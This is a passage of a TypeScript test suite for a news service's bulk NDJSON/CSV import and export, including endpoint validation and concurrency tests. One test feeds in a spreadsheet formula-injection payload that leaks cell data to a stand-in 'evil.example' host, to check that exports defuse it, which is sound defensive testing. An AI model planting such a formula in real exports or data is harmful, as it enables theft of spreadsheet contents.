import { spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import pg from 'pg';
import { tryLock } from 'fs-native-extensions';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { badLines, BAD_KINDS, writeImportFile } from '../bench/importFile.ts';
import { intArray } from '../src/db/arrays.ts';
import { prisma } from '../src/db/client.ts';
import { readRecords } from '../src/records/read.ts';
import { whileRefusingTitles } from './support/refusal.ts';
import { ndjsonLine } from '../src/records/write.ts';
import type { Viewer } from '../src/resolvers/access/viewer.ts';
import { deleteArticle, upsertArticle } from '../src/resolvers/articles/writes.ts';
import { detachArticle, mergeStories, setStoryLead } from '../src/resolvers/stories/writes.ts';
import { exportRecords } from '../src/transfer/export.ts';
import { importRecords, type ImportOutcome, type RecordError } from '../src/transfer/import.ts';
import { yoga } from './support/api.ts';
import { seedDemo } from './support/demo.ts';
import { callers, type Caller } from './support/keys.ts';
import { startServer } from './support/process.ts';
import { databaseUrl, embeddedPass, migratedFolder, serverUrl, templateName } from './support/targets.ts';

/**
 * Bulk import and export (src/transfer/, npm run import / export, /import.ndjson, /export.*): the
 * 1,000-record file with 30 bad records of every kind, a second run that changes nothing, a killed
 * import that resumes without duplicates, and export then import into an empty database giving
 * back the same articles, bylines, topics and stories.
 */

const root = path.resolve(import.meta.dirname, '..');
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'newsgraph-import-'));
const importer: Viewer = { kind: 'apiKey', keyId: 0, name: 'import', role: 'EDITOR' };
const dropLater: string[] = [];

/**
 * The environment of a command on an empty database of its own: a new folder or a new database on the
 * server, which the command migrates, or with `migrated` a copy of the run's migrated template (no
 * articles either), for tests that are not about a new database.
 */
async function emptyDatabase(options: { migrated?: boolean } = {}): Promise<Record<string, string>> {
  const name = `ng_import_${crypto.randomBytes(5).toString('hex')}`;
  if (!serverUrl) {
    if (options.migrated) return { PGLITE_DIR: migratedFolder(work, name), DATABASE_URL: '' };
    return { PGLITE_DIR: path.join(work, name), DATABASE_URL: '', MIGRATE_ON_START: 'true' };
  }
  const admin = new pg.Client({ connectionString: serverUrl });
  await admin.connect();
  await admin.query(`CREATE DATABASE "${name}"${options.migrated ? ` TEMPLATE "${templateName}"` : ''}`);
  await admin.end();
  dropLater.push(name);
  return { DATABASE_URL: databaseUrl(name), MIGRATE_ON_START: 'true' };
}

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** Runs `npm run <script> -- args` as a user would (node --import tsx, its own process). */
function command(
  script: 'import' | 'export',
  args: string[],
  env: Record<string, string>,
  options: { killWhen?: () => boolean; stdin?: string } = {},
): Promise<Run> {
  // an empty value unsets the variable (DATABASE_URL for the embedded database)
  const merged = Object.fromEntries(
    Object.entries({ ...process.env, LOG_LEVEL: 'silent', ...env }).filter(([, value]) => value !== ''),
  );
  const child = spawn(process.execPath, ['--import', 'tsx', `src/cli/${script}.ts`, ...args], {
    cwd: root,
    env: merged,
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk) => (stdout += chunk));
  child.stderr.on('data', (chunk) => (stderr += chunk));
  if (options.stdin !== undefined) child.stdin.end(options.stdin);
  else child.stdin.end();
  let timer: NodeJS.Timeout | undefined;
  if (options.killWhen) {
    const check = options.killWhen;
    timer = setInterval(() => {
      if (check()) {
        clearInterval(timer);
        child.kill('SIGKILL');
      }
    }, 20);
  }
  return new Promise((resolve) =>
    child.once('exit', (code) => {
      clearInterval(timer);
      resolve({ code, stdout, stderr });
    }),
  );
}

async function outcomesOf(file: string): Promise<ImportOutcome[]> {
  const out: ImportOutcome[] = [];
  const source = readRecords(fs.createReadStream(file), 'ndjson');
  for await (const outcome of importRecords(prisma, source, importer, { batchSize: 97 })) {
    out.push(outcome);
  }
  return out;
}

const tally = (outcomes: ImportOutcome[]) =>
  outcomes.reduce<Record<string, number>>((counts, o) => ({ ...counts, [o.status]: (counts[o.status] ?? 0) + 1 }), {});

let as: Record<Caller, Record<string, string>>;

beforeAll(async () => {
  as = await callers();
});

afterAll(async () => {
  fs.rmSync(work, { recursive: true, force: true });
  if (serverUrl && dropLater.length) {
    const admin = new pg.Client({ connectionString: serverUrl });
    await admin.connect();
    for (const name of dropLater) await admin.query(`DROP DATABASE IF EXISTS "${name}" WITH (FORCE)`);
    await admin.end();
  }
});

describe('export', () => {
  it('gives back the same articles, bylines, topics and stories when imported into an empty database', async () => {
    await seedDemo();
    // an editor's story decisions, which the records carry too: two stories merged (every member
    // pinned), a lead chosen that is not the earliest, an article detached into a story of its own
    const [kept, merged] = await prisma.story.findMany({
      orderBy: [{ articleCount: 'desc' }, { id: 'asc' }],
      take: 2,
      select: { id: true, version: true, articleCount: true },
    });
    expect(kept!.articleCount).toBeGreaterThanOrEqual(2);
    await mergeStories(
      prisma,
      { sourceIds: [{ id: merged!.id }], targetId: { id: kept!.id }, expectedVersion: kept!.version },
      importer,
    );
    const members = await prisma.article.findMany({
      where: { storyId: kept!.id },
      orderBy: [{ publishedAt: 'desc' }, { id: 'desc' }],
    });
    const [latest, detached] = members as [(typeof members)[0], (typeof members)[0]];
    const story = await prisma.story.findUniqueOrThrow({ where: { id: kept!.id } });
    await setStoryLead(
      prisma,
      { storyId: { id: kept!.id }, articleId: { id: latest.id }, expectedVersion: story.version },
      importer,
    );
    await detachArticle(prisma, { articleId: { id: detached.id }, expectedVersion: detached.version }, importer);
    // copies published at one instant, filed in the reverse of their links' order: an export lists
    // them in filing order, and the first filed is their story's lead
    const body = Array.from({ length: 40 }, (_, i) => `Ferry timetable change ${i} for the harbour route.`).join(' ');
    for (const letter of ['c', 'b', 'a']) {
      await upsertArticle(
        prisma,
        {
          title: 'Harbour ferry timetable changes',
          url: `https://ties.example/${letter}`,
          source: `Tie ${letter}`,
          publishedAt: new Date('2026-03-03T03:03:03Z'),
          priority: 3,
          body,
        },
        importer,
      );
    }
    const ties = await prisma.article.findMany({ where: { url: { startsWith: 'https://ties.example/' } } });
    expect(new Set(ties.map((tie) => tie.storyId)).size).toBe(1);
    const tieStory = await prisma.story.findUniqueOrThrow({ where: { id: ties[0]!.storyId! } });
    expect(ties.find((tie) => tie.id === tieStory.leadId)!.url).toBe('https://ties.example/c');
    const records: Record<string, unknown>[] = [];
    for await (const record of exportRecords({}, importer)) records.push(record);
    expect(records.length).toBe(await prisma.article.count());
    expect(records.length).toBeGreaterThan(400);
    const stories = new Set(records.map((record) => record.story));
    expect(stories.size).toBeLessThan(records.length);
    expect(records.filter((record) => record.storyLead).map((record) => record.url)).toEqual([latest.url]);
    expect(records.filter((record) => record.storyPinned).length).toBe(
      (await prisma.article.count({ where: { storyId: kept!.id } })) + 1,
    );
    // the detached article's separations, on it and on each article it was taken from: the latest
    // of those is published after it, so the import restores that one when it files the latest
    const others = members.filter((member) => member.id !== detached.id).sort((x, y) => x.id - y.id);
    expect(others.length).toBeGreaterThan(1);
    const recordOf = (url: string) => records.find((record) => record.url === url)!;
    expect(recordOf(detached.url).separatedFrom).toEqual(others.map((other) => other.url));
    for (const other of others) expect(recordOf(other.url).separatedBy).toEqual([detached.url]);
    expect(records.filter((record) => (record.separatedFrom as string[]).length).length).toBe(1);
    const file = path.join(work, 'export.ndjson');
    fs.writeFileSync(file, records.map(ndjsonLine).join(''));

    const env = await emptyDatabase();
    const imported = await command('import', [file], env);
    expect(imported.stdout.trim()).toBe(`created ${records.length}, updated 0, unchanged 0, rejected 0`);
    const again = await command('export', [], env);
    expect(again.stdout).toBe(records.map(ndjsonLine).join(''));
    const csv = await command('export', ['--format', 'csv', '--filter', '{"priority":{"gte":4}}'], env);
    expect(csv.stdout.split('\r\n')[0]).toBe(
      'title,url,source,publishedAt,priority,isAustralian,description,summary,body,authors,topics,story,storyPinned,storyLead,separatedFrom,separatedBy',
    );
    const refused = await command('export', ['--filter', '{"nope":1}'], env);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/BAD_USER_INPUT/);
  });

  it('defuses spreadsheet formulas in CSV cells, and an import of that CSV gives the values back', async () => {
    const written = {
      title: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      url: 'https://formula.example/1',
      source: '@Desk',
      publishedAt: new Date('2026-04-04T04:04:04Z'),
      priority: 2,
      summary: "'=already marked",
      description: '+61 2 5550 1234',
      authors: [{ name: '-Minus Author' }, { name: 'Plain Author' }],
    };
    await upsertArticle(prisma, written, importer);
    const exported = await yoga.fetch(
      `http://newsgraph.test/export.csv?filter=${encodeURIComponent('{"source":{"equals":"@Desk"}}')}`,
      { headers: as.editor },
    );
    const csv = await exported.text();
    const file = path.join(work, 'formula.csv');
    fs.writeFileSync(file, csv);
    const [, row] = csv.split('\r\n');
    // each text cell a spreadsheet would run starts with one more ': read as text, not run
    expect(row).toMatch(
      /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1,""Click""\)",https:\/\/formula\.example\/1,'@Desk,/,
    );
    expect(row).toContain(`,'+61 2 5550 1234,''=already marked,"",'-Minus Author|Plain Author,`);
    const env = await emptyDatabase({ migrated: true });
    const imported = await command('import', [file], env);
    expect(imported.stdout.trim().split('\n').at(-1)).toBe('created 1, updated 0, unchanged 0, rejected 0');
    const [record] = (await command('export', [], env)).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(record).toMatchObject({
      title: written.title,
      source: '@Desk',
      summary: "'=already marked",
      description: '+61 2 5550 1234',
      authors: ['-Minus Author', 'Plain Author'],
    });
  });

  it('exports articles whose bodies together pass the text limit of one answer, in smaller pages', async () => {
    const body = 'long words '.repeat(40_000);
    await prisma.article.createMany({
      data: Array.from({ length: 30 }, (_, i) => ({
        title: `Long ${i}`,
        url: `https://long.example/${i}`,
        urlKey: `https://long.example/${i}`,
        source: 'Long Reads',
        publishedAt: new Date(Date.UTC(2024, 0, 1 + i)),
        priority: 1,
        body,
        updatedAt: new Date(),
      })),
    });
    const records: Record<string, unknown>[] = [];
    for await (const record of exportRecords({ filter: { source: { equals: 'Long Reads' } } }, importer)) {
      records.push(record);
    }
    expect(records.map((record) => record.title)).toEqual(Array.from({ length: 30 }, (_, i) => `Long ${i}`));
    expect(records.every((record) => record.body === body)).toBe(true);
  });

  it('streams /export.ndjson and /export.csv to editors only, and files NDJSON posted to /import.ndjson', async () => {
    const denied = await yoga.fetch('http://newsgraph.test/export.ndjson');
    expect(denied.status).toBe(401);
    expect(((await denied.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe(
      'UNAUTHENTICATED',
    );
    expect((await yoga.fetch('http://newsgraph.test/export.ndjson', { headers: as.revoked })).status).toBe(401);
    expect(
      (await yoga.fetch('http://newsgraph.test/export.ndjson', { method: 'PUT', headers: as.editor })).status,
    ).toBe(405);
    // HEAD answers as GET would, without the body: the same status and headers, a refused filter included
    for (const route of ['export.ndjson', 'export.csv']) {
      const head = await yoga.fetch(`http://newsgraph.test/${route}`, { method: 'HEAD', headers: as.editor });
      const get = await yoga.fetch(`http://newsgraph.test/${route}`, { headers: as.editor });
      expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([
        200,
        get.headers.get('content-type'),
        '',
      ]);
      if (route === 'export.csv') expect(await get.text()).toMatch(/^title,/);
      else await get.text();
      const refused = await yoga.fetch(`http://newsgraph.test/${route}?filter=${encodeURIComponent('{"x":1}')}`, {
        method: 'HEAD',
        headers: as.editor,
      });
      expect(refused.status, route).toBe(400);
      expect((await yoga.fetch(`http://newsgraph.test/${route}`, { method: 'HEAD' })).status).toBe(401);
    }
    // POST takes the question as a JSON body, checked as the query parameters are
    const postQuestion = async (body: string | Uint8Array) => {
      const response = await yoga.fetch('http://newsgraph.test/export.ndjson', {
        method: 'POST',
        headers: { ...as.editor, 'content-type': 'application/json' },
        body,
      });
      return { status: response.status, text: await response.text() };
    };
    for (const body of [
      '{"filter":{"x":1}}',
      '{"filter":"{}"}',
      '{"filter":[]}',
      '{"search":5}',
      '{"search":"a\\u0000b"}',
      '{"other":1}',
      '[]',
      'not json',
      new Uint8Array([0x7b, 0xff, 0x7d]),
    ]) {
      const answer = await postQuestion(body);
      expect(answer.status, String(body)).toBe(400);
      expect(JSON.parse(answer.text).errors[0].extensions.code, String(body)).toBe('BAD_USER_INPUT');
    }
    expect((await postQuestion(`{"search":"${'a'.repeat(1024 * 1024)}"}`)).status).toBe(413);
    // a question comes as JSON: a form or text body, or a body without a type, is refused
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', null]) {
      const answer = await yoga.fetch('http://newsgraph.test/export.ndjson', {
        method: 'POST',
        headers: { ...as.editor, ...(type && { 'content-type': type }) },
        body: '{"search":"a"}',
      });
      expect(answer.status, String(type)).toBe(415);
      expect(((await answer.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe(
        'UNSUPPORTED_MEDIA_TYPE',
      );
    }
    // a POST's question is its body, never its URL
    for (const query of [`filter=${encodeURIComponent('{"source":{"equals":"nope"}}')}`, 'filtre=1', 'x']) {
      const answer = await yoga.fetch(`http://newsgraph.test/export.ndjson?${query}`, {
        method: 'POST',
        headers: { ...as.editor, 'content-type': 'application/json' },
        body: '{}',
      });
      expect(answer.status, query).toBe(400);
      expect(((await answer.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe(
        'BAD_USER_INPUT',
      );
    }
    const charset = await yoga.fetch('http://newsgraph.test/export.ndjson', {
      method: 'POST',
      headers: { ...as.editor, 'content-type': 'Application/JSON; charset=utf-8' },
      body: '{"search":"zzzz-no-such-words"}',
    });
    expect([charset.status, await charset.text()]).toEqual([200, '']);
    for (const query of [
      `filter=${encodeURIComponent('{"x":1}')}`,
      'search=a%00b',
      // a misspelt or repeated parameter would otherwise export every article, or one question of two
      `filtre=${encodeURIComponent('{"priority":{"gte":5}}')}`,
      'search=a&search=b',
      'filter=',
      'filter',
      `filter=${encodeURIComponent('{}')}&filter=${encodeURIComponent('{}')}`,
      `filter=${encodeURIComponent('{"source":{"equals":"a\\u0000b"}}')}`,
      `filter=${encodeURIComponent('{"text":"abc\\ud800def"}')}`,
    ]) {
      const bad = await yoga.fetch(`http://newsgraph.test/export.ndjson?${query}`, { headers: as.editor });
      expect(bad.status, query).toBe(400);
      expect(((await bad.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe(
        'BAD_USER_INPUT',
      );
    }
    // nested past what any reader's stack holds (2,000 NOTs, or ANDs): refused, not a RangeError
    for (const deep of [
      '{"NOT":'.repeat(2000) + '{}' + '}'.repeat(2000),
      '{"AND":['.repeat(2000) + '{}' + ']}'.repeat(2000),
    ]) {
      for (const route of ['export.ndjson', 'export.csv']) {
        const bad = await yoga.fetch(`http://newsgraph.test/${route}?filter=${encodeURIComponent(deep)}`, {
          headers: as.editor,
        });
        expect(bad.status, route).toBe(400);
        expect(((await bad.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe(
          'BAD_USER_INPUT',
        );
      }
    }
    // wider than the GraphQL endpoint's variables may be (10,000 values): refused before graphql-js
    // coerces it, once per page
    const wide = JSON.stringify({ OR: Array.from({ length: 10_001 }, () => ({})) });
    const tooWide = await yoga.fetch(`http://newsgraph.test/export.ndjson?filter=${encodeURIComponent(wide)}`, {
      headers: as.editor,
    });
    expect(tooWide.status).toBe(400);
    expect(await tooWide.json()).toMatchObject({
      errors: [{ message: expect.stringContaining('more than 10000 values'), extensions: { code: 'BAD_USER_INPUT' } }],
    });
    // IDs the filter cannot hold: not base64, another type's, out of range, negative (as articles(filter:) refuses them)
    const gid = (text: string) => Buffer.from(text).toString('base64');
    for (const id of ['!!', gid('Article:1'), gid('Author:99999999999'), gid('Author:-1')]) {
      for (const [route, filter] of [
        ['export.ndjson', { authors: { some: { id: { equals: id } } } }],
        ['export.csv', { topics: { some: { id: { in: [id] } } } }],
      ] as const) {
        const bad = await yoga.fetch(
          `http://newsgraph.test/${route}?filter=${encodeURIComponent(JSON.stringify(filter))}`,
          { headers: as.editor },
        );
        expect(bad.status, `${route} ${id}`).toBe(400);
        const body = (await bad.json()) as { errors: { extensions: { code: string } }[] };
        expect(body.errors[0]!.extensions.code, `${route} ${id}`).toBe('INVALID_ID');
      }
    }

    const posted = await yoga.fetch('http://newsgraph.test/import.ndjson', {
      method: 'POST',
      headers: { ...as.editor, 'content-type': 'application/x-ndjson' },
      body: [
        JSON.stringify({
          title: 'Posted',
          url: 'https://posted.example/1',
          source: 'Post',
          publishedAt: '2025-03-03T00:00:00Z',
          priority: 2,
          authors: ['Poster'],
        }),
        '{not json',
        JSON.stringify({ title: 'No link', source: 'Post', publishedAt: '2025-03-03T00:00:00Z', priority: 2 }),
      ].join('\n'),
    });
    expect(posted.status).toBe(200);
    const lines = (await posted.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual([
      { line: 1, status: 'created', id: expect.any(String) },
      { line: 2, status: 'rejected', errors: [expect.objectContaining({ path: [], code: 'INVALID_JSON' })] },
      { line: 3, status: 'rejected', errors: [expect.objectContaining({ path: ['url'], code: 'REQUIRED' })] },
      { summary: { created: 1, updated: 0, unchanged: 0, rejected: 2 } },
    ]);
    expect(
      (await yoga.fetch('http://newsgraph.test/import.ndjson', { method: 'POST', headers: as.anonymous, body: '{}' }))
        .status,
    ).toBe(401);

    const search = await yoga.fetch(`http://newsgraph.test/export.csv?search=Posted`, { headers: as.editor });
    expect(search.status).toBe(200);
    expect(search.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = (await search.text()).trim().split('\r\n');
    expect(rows).toHaveLength(2);
    expect(rows[1]).toMatch(/^Posted,https:\/\/posted\.example\/1,Post,2025-03-03T00:00:00\.000Z,2,false,/);
  });
});

describe('import', () => {
  it('pins a new article and makes it its story lead as the record says, in a batch and one by one, and refuses other values', async () => {
    const base = {
      source: 'Story Desk',
      publishedAt: '2025-02-02T00:00:00Z',
      priority: 3,
      body: 'A story told by three records.',
    };
    const lines = [
      { ...base, title: 'First', url: 'https://decisions.example/1', story: 'https://decisions.example/1' },
      {
        ...base,
        title: 'Second',
        url: 'https://decisions.example/2',
        publishedAt: '2025-02-02T01:00:00Z',
        story: 'https://decisions.example/1',
        storyPinned: true,
        storyLead: true,
      },
      { ...base, title: 'Bad', url: 'https://decisions.example/3', storyPinned: 'yes' },
    ];
    const file = path.join(work, 'decisions.ndjson');
    fs.writeFileSync(file, lines.map((line) => ndjsonLine(line)).join(''));
    const outcomes = await outcomesOf(file);
    expect(outcomes.map((outcome) => outcome.status)).toEqual(['created', 'created', 'rejected']);
    expect(outcomes[2]).toMatchObject({ errors: [{ path: ['storyPinned'], code: 'INVALID_TYPE' }] });
    const [first, second] = await Promise.all(
      [1, 2].map((n) => prisma.article.findFirstOrThrow({ where: { url: `https://decisions.example/${n}` } })),
    );
    expect(second!.storyId).toBe(first!.storyId);
    expect([first!.storyPinned, second!.storyPinned]).toEqual([false, true]);
    expect(await prisma.story.findUniqueOrThrow({ where: { id: first!.storyId } })).toMatchObject({
      leadId: second!.id,
      leadChosen: true,
    });
    // one by one (upsertArticle, as a batch files what it cannot settle): a chosen lead is kept
    const third = await upsertArticle(
      prisma,
      { ...base, title: 'Third', url: 'https://decisions.example/4', publishedAt: new Date('2025-02-02T02:00:00Z') },
      importer,
      new Date(),
      { storyOf: 'https://decisions.example/1', storyPinned: true, storyLead: true },
    );
    const story = await prisma.story.findUniqueOrThrow({ where: { id: first!.storyId } });
    expect(story).toMatchObject({ leadId: second!.id, leadChosen: true, articleCount: 3 });
    expect((await prisma.article.findUniqueOrThrow({ where: { id: third.id } })).storyPinned).toBe(true);
    // an article filed before keeps its story as it is
    await upsertArticle(
      prisma,
      { ...base, title: 'First', url: 'https://decisions.example/1', publishedAt: new Date(base.publishedAt) },
      importer,
      new Date(),
      { storyPinned: true, storyLead: true },
    );
    expect((await prisma.article.findUniqueOrThrow({ where: { id: first!.id } })).storyPinned).toBe(false);
    expect((await prisma.story.findUniqueOrThrow({ where: { id: story.id } })).leadId).toBe(second!.id);
    // CSV cells: the words isAustralian takes
    const rows = [];
    for await (const row of readRecords(Readable.from(['title,storyPinned,storyLead\r\n', 'A,yes,0\r\n']), 'csv'))
      rows.push(row);
    expect(rows[0]).toMatchObject({ record: { title: 'A', storyPinned: true, storyLead: false } });
  });

  it('restores separations whichever of the two records comes first, across batches, onto an article filed before, and refuses bad lists', async () => {
    const base = { source: 'Separation Desk', priority: 2, body: 'Records an editor kept apart.' };
    const url = (name: string) => `https://separations.example/${name}`;
    const at = (hour: number) => `2025-03-03T0${hour}:00:00Z`;
    const before = await upsertArticle(
      prisma,
      { ...base, title: 'Filed before', url: url('p'), publishedAt: new Date(at(0)) },
      importer,
    );
    const lines = [
      // A names B, which comes after it (B names A back), and P, which is filed already
      {
        ...base,
        title: 'A',
        url: url('a'),
        publishedAt: at(1),
        storyPinned: true,
        separatedFrom: [url('b'), url('p')],
      },
      { ...base, title: 'B', url: url('b'), publishedAt: at(2), separatedBy: [url('a')] },
      // C was taken away from P: P's separatedFrom gains C
      { ...base, title: 'C', url: url('c'), publishedAt: at(3), separatedBy: [url('p')] },
      // itself, and a link no article has: nothing to restore
      { ...base, title: 'G', url: url('g'), publishedAt: at(4), separatedFrom: [url('g'), url('nowhere')] },
      { ...base, title: 'D', url: url('d'), publishedAt: at(5), separatedFrom: [url('a'), 'not a url'] },
      { ...base, title: 'E', url: url('e'), publishedAt: at(5), separatedBy: url('a') },
      { ...base, title: 'F', url: url('f'), publishedAt: at(5), separatedFrom: [7] },
      // every problem of a record at once, and lists past the limit
      { ...base, url: url('m'), publishedAt: at(5), story: 'no url', separatedFrom: ['bad url'] },
      {
        ...base,
        title: 'T',
        url: url('t'),
        publishedAt: at(5),
        separatedBy: Array.from({ length: 10_001 }, (_, i) => url(`x${i}`)),
      },
    ];
    const run = async () => {
      const out: ImportOutcome[] = [];
      const source = readRecords(Readable.from(lines.map((line) => ndjsonLine(line))), 'ndjson');
      // a record a batch: on a PostgreSQL server two are filed at once, and B's waits for A's
      for await (const outcome of importRecords(prisma, source, importer, { batchSize: 1 })) out.push(outcome);
      return out;
    };
    const first = await run();
    expect(first.map((outcome) => outcome.status)).toEqual([
      'created',
      'created',
      'created',
      'created',
      'rejected',
      'rejected',
      'rejected',
      'rejected',
      'rejected',
    ]);
    expect(first.slice(4).map((outcome) => outcome.status === 'rejected' && outcome.errors)).toEqual([
      [expect.objectContaining({ path: ['separatedFrom', 1], code: 'INVALID_URL' })],
      [expect.objectContaining({ path: ['separatedBy'], code: 'INVALID_TYPE' })],
      [expect.objectContaining({ path: ['separatedFrom', 0], code: 'INVALID_TYPE' })],
      [
        expect.objectContaining({ path: ['title'], code: 'REQUIRED' }),
        expect.objectContaining({ path: ['story'], code: 'INVALID_URL' }),
        expect.objectContaining({ path: ['separatedFrom', 0], code: 'INVALID_URL' }),
      ],
      [expect.objectContaining({ path: ['separatedBy'], code: 'TOO_MANY' })],
    ]);
    const separations = async () =>
      Object.fromEntries(
        (
          await prisma.article.findMany({
            where: { url: { startsWith: url('') } },
            select: { url: true, separatedFrom: true },
          })
        ).map((row) => [row.url.slice(url('').length), row.separatedFrom]),
      );
    const ids = Object.fromEntries(
      (await prisma.article.findMany({ where: { url: { startsWith: url('') } }, select: { url: true, id: true } })).map(
        (row) => [row.url.slice(url('').length), row.id],
      ),
    );
    const restored = await separations();
    expect(restored).toEqual({
      a: [ids.p!, ids.b!].sort((x, y) => x - y),
      b: [],
      c: [],
      g: [],
      p: [ids.c],
    });
    // a second run: every article exists, nothing changes
    const second = await run();
    expect(second.map((outcome) => outcome.status).slice(0, 4)).toEqual([
      'unchanged',
      'unchanged',
      'unchanged',
      'unchanged',
    ]);
    expect(await separations()).toEqual(restored);
    // one by one (upsertArticle, as a batch files what it cannot settle), and never onto an article filed before
    const h = await upsertArticle(
      prisma,
      { ...base, title: 'H', url: url('h'), publishedAt: new Date(at(6)) },
      importer,
      new Date(),
      { separatedBy: [url('p')], separatedFrom: [url('a')] },
    );
    await upsertArticle(
      prisma,
      { ...base, title: 'B', url: url('b'), publishedAt: new Date(at(2)) },
      importer,
      new Date(),
      { separatedFrom: [url('c')] },
    );
    expect(await separations()).toMatchObject({ h: [ids.a], p: [ids.c, h.id], b: [] });
    expect((await prisma.article.findUniqueOrThrow({ where: { id: before.id } })).version).toBe(1);
  });

  it('keeps a new article out of the story of an article it is separated from, either way, in a batch and one by one', async () => {
    const body = Array.from({ length: 60 }, (_, i) => `Tram line ${i} closes for track renewal this weekend.`).join(
      ' ',
    );
    const record = (group: string, name: string, hour: number, extra: Record<string, unknown> = {}) => ({
      title: 'Tram line closes for track renewal',
      url: `https://apart.example/${group}/${name}`,
      source: `Apart ${name}`,
      publishedAt: `2025-04-04T0${hour}:00:00Z`,
      priority: 3,
      body,
      ...extra,
    });
    const storiesOf = async (group: string) =>
      (
        await prisma.article.findMany({
          where: { url: { startsWith: `https://apart.example/${group}/` } },
          orderBy: { url: 'asc' },
          select: { storyId: true },
        })
      ).map((row) => row.storyId);
    const file = async (group: string, batchSize: number, separated: boolean) => {
      const lines = [
        record(group, 'h', 1, separated ? { separatedFrom: [`https://apart.example/${group}/o`] } : {}),
        record(group, 'o', 2, separated ? { separatedBy: [`https://apart.example/${group}/h`] } : {}),
        // a third copy, separated from neither, joins one of them
        record(group, 'p', 3),
      ];
      const source = readRecords(Readable.from(lines.map((line) => ndjsonLine(line))), 'ndjson');
      for await (const outcome of importRecords(prisma, source, importer, { batchSize }))
        expect(outcome.status).toBe('created');
      return storiesOf(group);
    };
    // the copies match: without separations, one story
    expect(new Set(await file('together', 200, false)).size).toBe(1);
    for (const [group, batchSize] of [
      ['batch', 200],
      ['single', 1],
    ] as const) {
      const [h, o, p] = await file(group, batchSize, true);
      expect(h).not.toBe(o);
      expect([h, o]).toContain(p);
    }
    // one by one: the later article holds the separation, and the earlier one
    const single = async (name: string, hour: number, placement: Record<string, string[]>) => {
      const { url, ...rest } = record('one', name, hour);
      return upsertArticle(
        prisma,
        { ...rest, url, publishedAt: new Date(rest.publishedAt) },
        importer,
        new Date(),
        placement,
      );
    };
    await single('h', 1, {});
    await single('o', 2, { separatedFrom: ['https://apart.example/one/h'] });
    await single('q', 3, {});
    await single('r', 4, { separatedBy: ['https://apart.example/one/q'] });
    const [h, o, q, r] = await storiesOf('one');
    expect(o).not.toBe(h);
    expect(r).not.toBe(q);
  });

  it.skipIf(!serverUrl)(
    'restores a separation whose two records two imports file at once, and one only the later record names across batches in flight',
    async () => {
      const admin = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await admin.connect();
      const record = (name: string, extra: Record<string, unknown>) => ({
        title: `Race ${name}`,
        url: `https://race-apart.example/${name}`,
        source: 'Race',
        publishedAt: '2025-05-06T06:06:06Z',
        priority: 2,
        ...extra,
      });
      const run = async (line: Record<string, unknown>) => {
        const out: ImportOutcome[] = [];
        const source = readRecords(Readable.from([ndjsonLine(line)]), 'ndjson');
        for await (const outcome of importRecords(prisma, source, importer)) out.push(outcome);
        return out;
      };
      // the detector lock held: both batches insert their article before either commits
      await admin.query('SELECT pg_advisory_lock(7405, 0)');
      const both = Promise.all([
        run(record('h', { separatedFrom: ['https://race-apart.example/o'] })),
        run(record('o', { separatedBy: ['https://race-apart.example/h'] })),
      ]);
      for (let waited = 0; ; waited += 50) {
        const { rows } = await admin.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM pg_locks WHERE locktype = 'advisory' AND NOT granted AND classid IN (7405, 7407)`,
        );
        if (rows[0]!.n >= 2 || waited > 20_000) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      await admin.query('SELECT pg_advisory_unlock(7405, 0)');
      const outcomes = await both;
      await admin.end();
      expect(outcomes.flat().map((outcome) => outcome.status)).toEqual(['created', 'created']);
      const [h, o] = await Promise.all(
        ['h', 'o'].map((name) =>
          prisma.article.findUniqueOrThrow({ where: { urlKey: `https://race-apart.example/${name}` } }),
        ),
      );
      expect(h!.separatedFrom).toEqual([o!.id]);
      expect(o!.separatedFrom).toEqual([]);
      // one import, a separation only the later record names, the earlier one's batch still in
      // flight: the later batch waits for it, else it would look for an uncommitted row
      const again = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await again.connect();
      await again.query('SELECT pg_advisory_lock(7405, 0)');
      const lines = [record('p', {}), record('q', { separatedFrom: ['https://race-apart.example/p'] })];
      const source = readRecords(Readable.from(lines.map((line) => ndjsonLine(line))), 'ndjson');
      const filing = (async () => {
        const out: ImportOutcome[] = [];
        for await (const outcome of importRecords(prisma, source, importer, { batchSize: 1 })) out.push(outcome);
        return out;
      })();
      // the first batch waits for the lock; a second batch started meanwhile would too
      for (let waited = 0; waited < 1_500; waited += 50) {
        const { rows } = await again.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM pg_locks WHERE locktype = 'advisory' AND NOT granted AND classid IN (7405, 7407)`,
        );
        if (rows[0]!.n >= 2) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      await again.query('SELECT pg_advisory_unlock(7405, 0)');
      await again.end();
      expect((await filing).map((outcome) => outcome.status)).toEqual(['created', 'created']);
      const [p, q] = await Promise.all(
        ['p', 'q'].map((name) =>
          prisma.article.findUniqueOrThrow({ where: { urlKey: `https://race-apart.example/${name}` } }),
        ),
      );
      expect(q!.separatedFrom).toEqual([p!.id]);
    },
  );

  it('files 970 of 1,000 records, rejects the 30 bad ones with their lines and codes, and a second run changes nothing', async () => {
    const file = path.join(work, 'thousand.ndjson');
    const bad = await writeImportFile(file, { count: 1000, bad: 30, seed: 'thousand' });
